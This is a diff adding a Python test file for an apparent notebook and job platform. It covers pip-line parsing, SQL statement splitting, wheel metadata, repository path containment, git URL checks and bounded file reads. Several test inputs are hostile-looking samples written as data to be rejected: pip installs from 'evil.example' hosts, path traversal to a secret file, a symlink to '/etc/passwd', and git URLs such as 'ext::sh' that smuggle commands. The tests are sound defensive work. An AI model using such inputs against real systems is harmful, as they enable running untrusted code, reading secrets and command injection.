@@ -1,0 +1,110 @@
+"""What tasks run and leave, looked at without a server: packages, statements, places in repositories, files."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from millpond.jobs.code import installs
+from millpond.jobs.git_sources import checked_source, inside
+from millpond.jobs.packages import needs_of_wheel, without
+from millpond.jobs.sql_tasks import statements_of
+from millpond.jobs.written import read_bounded, storable
+from millpond.kernel.errors import InvalidArgument, NotFound
+from millpond.sdk.dbutils.widgets import Widgets
+from millpond.workspace.notebooks import Cell, Language, Notebook
+from tests.wheels import make_wheel
+
+
+@pytest.mark.parametrize(
+    ("line", "packages"),
+    [
+        ("%pip install -U 'six>=1' idna==3  # why", ("idna==3", "six>=1")),
+        ("%pip install --index-url http://evil.example six", None),
+        ("%pip install git+https://evil.example/x", None),
+        ("%pip install /Volumes/a/b/c/x.whl", None),
+        ("%pip install six @ https://evil.example/six.whl", None),
+        ("%pip uninstall six", None),
+        ("print('%pip install six')", None),
+    ],
+)
+def test_only_packages_of_the_index_are_installed_for_a_notebook(line: str, packages: tuple[str, ...] | None) -> None:
+    notebook = Notebook(language=Language.PYTHON, cells=(Cell(source=f"{line}\nimport os"),))
+    assert [*installs(notebook).values()] == ([] if packages is None else [packages])
+    text = Notebook(language=Language.PYTHON, cells=(Cell(source=line, is_markdown=True),))
+    assert installs(text) == {}
+
+
+def test_semicolons_divide_statements_where_they_are_none_of_texts_and_comments() -> None:
+    text = "SELECT ';' -- a; b\n; /* ; */ SELECT `a;b`;\n;"
+    assert statements_of(text) == ["SELECT ';' -- a; b", "/* ; */ SELECT `a;b`"]
+    for none in ("", "  ;\n", "-- only words", "SELECT 'open"):
+        with pytest.raises(InvalidArgument):
+            statements_of(none)
+
+
+def test_a_wheel_says_what_it_needs_here(tmp_path: Path) -> None:
+    lines = (
+        "Name: a",
+        "Requires-Dist: six>1",
+        "Requires-Dist: x; sys_platform == 'win32'",
+        "Requires-Dist: y; extra == 'e'",
+    )
+    needs = "\n".join(lines)
+    wheel = make_wheel(tmp_path, "a", "1", {"a-1.dist-info/METADATA": needs})
+    assert needs_of_wheel(wheel.read_bytes(), "a.whl") == ("six>1",)
+    assert without(["six>1", "My_Lib"], ["my_lib-2.0-py3-none-any.whl"]) == ["six>1"]
+    with pytest.raises(InvalidArgument, match="no wheel"):
+        needs_of_wheel(b"PK", "a.whl")
+
+
+def test_a_file_of_a_repository_is_inside_of_it(tmp_path: Path) -> None:
+    root = tmp_path / "repository"
+    (root / ".git").mkdir(parents=True)
+    (root / ".git" / "config").write_text("")
+    (root / "a.py").write_text("")
+    (tmp_path / "secret.py").write_text("")
+    (root / "link.py").symlink_to(tmp_path / "secret.py")
+    assert inside(root, "a", notebook=True) == root / "a.py"
+    for path in (
+        "../secret.py",
+        "a/../../secret.py",
+        str(tmp_path / "secret.py"),
+        ".git/config",
+        "link.py",
+        "none",
+        "",
+    ):
+        with pytest.raises(NotFound):
+            inside(root, path)
+
+
+@pytest.mark.parametrize("url", ["https://u:p@x.org/r", "ssh://x/r", "file:///a/../b", "-x", "ext::sh", "https://x y"])
+def test_what_is_no_address_of_a_repository_is_refused(url: str) -> None:
+    with pytest.raises(InvalidArgument):
+        checked_source({"git_url": url, "git_branch": "main"})
+
+
+def test_what_a_child_left_is_read_as_a_file_of_bounded_size_or_not_at_all(tmp_path: Path) -> None:
+    (tmp_path / "good").write_text("12345")
+    (tmp_path / "link").symlink_to("/etc/passwd")
+    os.mkfifo(tmp_path / "pipe")
+    assert read_bounded(tmp_path / "good", 5) == b"12345"
+    assert [read_bounded(tmp_path / name, 4) for name in ("good", "link", "pipe", "none")] == [None] * 4
+    assert storable({"a\0": ["\ud800", 1, None]}) == {"a\ufffd": ["?", 1, None]}
+
+
+def test_widgets_have_what_was_given_or_their_defaults() -> None:
+    widgets = Widgets({"a": "1", "several": "x,y"})
+    widgets.text("a", "0")
+    widgets.combobox("free", "f", ["g"])
+    widgets.multiselect("several", "x", ["x", "y", "z"])
+    assert widgets.getAll() == {"a": "1", "free": "f", "several": "x,y"}
+    with pytest.raises(ValueError, match="none of its choices"):
+        widgets.dropdown("d", "q", ["r"])
+    with pytest.raises(ValueError, match="no choice"):
+        widgets.dropdown("a", "2", ["2", "3"])
+    widgets.remove("a")
+    with pytest.raises(ValueError, match="No input widget named 'a'"):
+        widgets.get("a")
+    assert widgets.getArgument("a", "d") == "d"
